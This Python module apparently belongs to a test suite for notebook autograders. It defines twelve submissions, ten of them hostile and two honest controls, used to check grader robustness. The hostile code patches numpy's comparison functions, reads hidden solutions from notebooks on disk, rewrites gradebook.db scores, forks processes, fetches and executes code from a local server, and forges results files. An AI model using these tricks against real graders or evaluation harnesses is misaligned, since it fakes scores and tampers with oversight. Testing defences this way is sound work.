"""Ten hostile submissions, and two honest ones as a control.

They are small on purpose: 50 processes where a real one starts thousands, 2 GB where a real one
takes all. Each says in a file and on its output what it reached. The peers' tests compare the
exercise's worked examples with ``assert_allclose``, or with ``==`` where that is what is attacked.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from graders.submissions import Submission, class_of, wrong_everywhere

__all__ = ["ATTACKER", "ATTACKS", "Attack", "hand_tests"]

ATTACKER = "mallory"

_REPORT = """\
import os
def report(text, also_inside=True):
    if also_inside:
        print("REACHED", text)
    try:
        with open({evidence!r}, "a") as file:
            file.write(text + "\\n")
    except OSError:
        pass
"""
_PATCH = """\
for place in (np, np.testing):
    for name in ("allclose", "isclose", "array_equal", "assert_allclose"):
        if hasattr(place, name):
            setattr(place, name, lambda *_arguments, **_options: True)
"""
_SEARCH = """\
import json
from pathlib import Path
folders, process = [Path.cwd(), *list(Path.cwd().parents)[:4]], os.getpid()
while process > 1:  # the folders that the programs above this one were started on
    try:
        named = Path(f"/proc/{process}/cmdline").read_text().split("\\0")
        folders += [Path(one).parent for one in named if one.startswith("/")]
        process = int(Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()[1])
    except (OSError, ValueError, IndexError):
        break
"""
_SOLUTION = """
stolen = {}
for folder in dict.fromkeys(folders):
    if len(folder.parts) < 3:
        continue
    for path in folder.rglob("*.ipynb"):
        text = path.read_text(errors="replace")
        if "### BEGIN " + "SOLUTION" in text:  # which this notebook itself does not hold
            for cell in json.loads(text)["cells"]:
                if "exercise" in cell["metadata"].get("tags", ()):
                    exec("".join(cell["source"]), globals(), stolen)
            report("the solution")
            break
    if stolen:
        break
"""
_UPDATE = """
import sqlite3
for folder in dict.fromkeys(folders):
    if (folder / "gradebook.db").exists():
        with sqlite3.connect(folder / "gradebook.db", timeout=10) as book:
            book.execute("UPDATE grade SET manual_score = 1")
        report("the gradebook")
        break
"""
_FORK = """\
import time
forked = 0
for _ in range(50):
    try:
        process = os.fork()
    except OSError:
        break
    if not process:
        time.sleep(3)
        os._exit(0)
    forked += 1
report(f"{forked} processes")
"""
_CONNECT = """\
import socket
stolen = {{}}
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as link:
        exec(link.makefile().read(), globals(), stolen)
    report("a server")
except OSError:
    pass
"""
_FAKE = """\
import atexit, glob, json, pickle
full = {"score": 5, "tests": [{"name": "all", "score": 5, "max_score": 5, "status": "passed"}]}
def fake():
    for name in ("results.json", "../results/results.json", "../../results.json", "grades.json"):
        try:
            with open(name, "w") as file:
                json.dump(full, file)
        except OSError:
            pass
    try:  # otter-grader takes the results from a file that the student's process writes
        from otter.execute import Checker
        from otter.test_files import GradingResults
        results = GradingResults(Checker.get_results())
        for test in results.test_files:
            results.update_score(test, 1)
        newest = max(glob.glob("/tmp/*.pkl"), key=os.path.getmtime)
        with open(newest, "wb") as file:
            pickle.dump(results, file)
    except Exception:
        pass
    report("files of results", also_inside=False)
fake()
atexit.register(fake)
"""
_EQUAL = """\
class Equal:
    def __eq__(self, other):
        return True
    def __getitem__(self, place):
        return self
"""


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Args:
        name: What it does, for the table.
        deserved: The points of what it answers by itself, out of five.
        first: What runs before the answers.
        answers: What it answers, where that is not wrong everywhere.
        test: How the peers' tests compare.
    """

    name: str
    deserved: int = 0
    first: str = ""
    answers: Mapping[str, str] = field(default_factory=dict)
    test: str = "np.testing.assert_allclose(answer, expected)"

    def submission(self, **filled_in: Any) -> Submission:
        """What the attacker hands in.

        Args:
            filled_in: ``evidence``, the file for what it reached, and ``port``, that of a server.
        """
        answers = wrong_everywhere() | dict(self.answers)
        first = self.first.format(**filled_in) if self.first is _CONNECT else self.first
        return Submission(ATTACKER, answers, self.deserved, _REPORT.format(**filled_in) + first)


_RIGHT = class_of(1, 0)[0].answers
_CALLS_STOLEN = {
    name: f"def {name}(*arguments):\n    return stolen[{name!r}](*arguments)\n" for name in _RIGHT
}


def _with_als(statement: str) -> dict[str, str]:
    """Right answers, but the last function does something else first."""
    name = "als_user_update"
    definition = f"def {name}(ratings, observed, item_factors, l2):\n"
    return _RIGHT | {name: _RIGHT[name].replace(definition, f"{definition}    {statement}\n")}


ATTACKS = (
    Attack("control: right answers", 5, answers=_RIGHT),
    Attack("control: wrong answers", 0),
    Attack("replaces assert_allclose", 0, _PATCH),
    Attack("os._exit(0) in one function", 4, answers=_with_als("os._exit(0)")),
    Attack("reads the solution from disk", 0, _SEARCH + _SOLUTION, _CALLS_STOLEN),
    Attack("UPDATE of the gradebook", 0, _SEARCH + _UPDATE),
    Attack(
        "object equal to everything",
        0,
        _EQUAL,
        {name: f"def {name}(*arguments):\n    return Equal()\n" for name in _RIGHT},
        "assert np.all(answer == expected)",
    ),
    Attack("endless loop in one function", 4, answers=_with_als("while True: pass")),
    Attack(
        "2 GB in one function",
        4,
        answers=_with_als("block = np.ones(250_000_000); report('2 GB')"),
    ),
    Attack("50 processes", 5, _FORK, _RIGHT),
    Attack("asks a server for the solution", 0, _CONNECT, _CALLS_STOLEN),
    Attack("writes results of its own", 0, _FAKE),
)

_EXAMPLE = """\
import numpy as np
R = np.array([[5.0, 3, 0, 1, 0], [4, 0, 0, 1, 1], [1, 1, 0, 5, 5], [0, 2, 5, 5, 0]])
O = np.array([[1, 1, 0, 1, 0], [1, 0, 0, 1, 1], [1, 1, 0, 1, 1], [0, 1, 1, 1, 0]], dtype=bool)
U = np.array([[1, 0.5], [1, 0], [0.5, 1], [0, 1]])
V = np.array([[2.0, 1], [1, 1], [1, 2], [1, 3], [0, 2]])
"""
# worked by hand: an expression and its value, which floating-point numbers hold exactly
_EXAMPLES = {
    "predict_ratings": (
        ("predict_ratings(U, V)[0]", "[2.5, 1.5, 2, 2.5, 1]"),
        ("predict_ratings(U, V)[1]", "[2, 1, 1, 1, 0]"),
    ),
    "observed_squared_error": (("observed_squared_error(R, O, U @ V.T)", "42.25"),),
    "mf_gradients": (
        ("mf_gradients(R, O, U, V, 0.0)[0][0]", "[-10, 1]"),
        ("mf_gradients(R, O, U, V, 0.0)[1][2]", "[0, -6]"),
    ),
    "sgd_step": (
        ("sgd_step(U, V, 0, 0, 5, 0.1, 0.0)[0][0]", "[2, 1]"),
        ("sgd_step(U, V, 0, 0, 5, 0.1, 0.0)[1][0]", "[2.5, 1.25]"),
    ),
    "als_user_update": (
        ("als_user_update(R[2], O[2] & (V[:, 0] == 0), V, 1.0)", "[0, 2]"),
        ("als_user_update(R[2], O[2] & False, V, 1.0)", "[0, 0]"),
    ),
}


def hand_tests(comparison: str) -> dict[str, str]:
    """A test of each function by its worked examples.

    Args:
        comparison: The statement that compares ``answer`` and ``expected``.
    """
    return {
        function: _EXAMPLE
        + "".join(
            f"answer = {expression}\nexpected = np.array({value})\n{comparison}\n"
            for expression, value in examples
        )
        for function, examples in _EXAMPLES.items()
    }
